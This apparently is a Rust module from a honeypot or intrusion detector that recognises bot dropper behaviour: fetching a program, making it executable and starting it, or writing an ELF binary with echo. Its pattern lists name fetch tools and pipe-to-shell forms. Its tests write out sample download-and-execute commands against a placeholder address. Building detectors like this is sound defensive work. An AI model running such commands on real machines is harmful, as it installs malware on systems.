//! What bots do with a shell: fetch a program, make it executable, start it; or write one with `echo`.

use crate::protocol::lines::mentions;

/// Programs that fetch.
const FETCHES: [&str; 4] = ["wget ", "tftp ", "curl ", "ftpget "];
/// Starts of what was fetched.
const STARTS: [&str; 4] = ["./", ";sh ", "; sh ", "&& sh "];
/// Starts of what is still being fetched.
const PIPES: [&str; 4] = ["|sh", "| sh", "|bash", "| bash"];
/// The first bytes of an ELF program as a shell's `echo` or `printf` writes them.
const WRITTEN: [&str; 3] = ["\\x7f\\x45\\x4c\\x46", "\\x7felf", "\\177\\105\\114\\106"];

/// The steps seen in one conversation.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub struct Dropper {
    is_fetched: bool,
    is_executable: bool,
}

impl Dropper {
    /// Whether the steps are complete with this line; then they begin anew.
    pub fn is_complete_with(&mut self, line: &[u8]) -> bool {
        let says = |words: &[&str]| words.iter().any(|word| mentions(line, word));
        self.is_fetched |= says(&FETCHES);
        self.is_executable |= says(&["chmod "]);
        let starts = says(&STARTS) || line.trim_ascii_start().starts_with(b"sh ");
        let is_complete = says(&WRITTEN) || self.is_fetched && (says(&PIPES) || self.is_executable && starts);
        if is_complete {
            *self = Self::default();
        }
        is_complete
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn falls(lines: &[&str]) -> usize {
        let mut dropper = Dropper::default();
        lines.iter().filter(|line| dropper.is_complete_with(line.as_bytes())).count()
    }

    #[test]
    fn all_three_steps_are_needed_in_one_line_or_in_several() {
        assert_eq!(falls(&["cd /tmp; wget http://192.0.2.9/a; chmod 777 a; ./a; rm a"]), 1);
        assert_eq!(falls(&["tftp -g -r b 192.0.2.9", "chmod +x b", "./b"]), 1);
        assert_eq!(falls(&["curl http://192.0.2.9/c | sh"]), 1);
        assert_eq!(falls(&["echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > d"]), 1);
        for honest in [
            &["wget http://example.org/doc.txt", "less doc.txt"][..],
            &["chmod +x run", "./run"],
            &["ls -la", "show running-config", "exit"],
        ] {
            assert_eq!(falls(honest), 0, "{honest:?}");
        }
    }
}
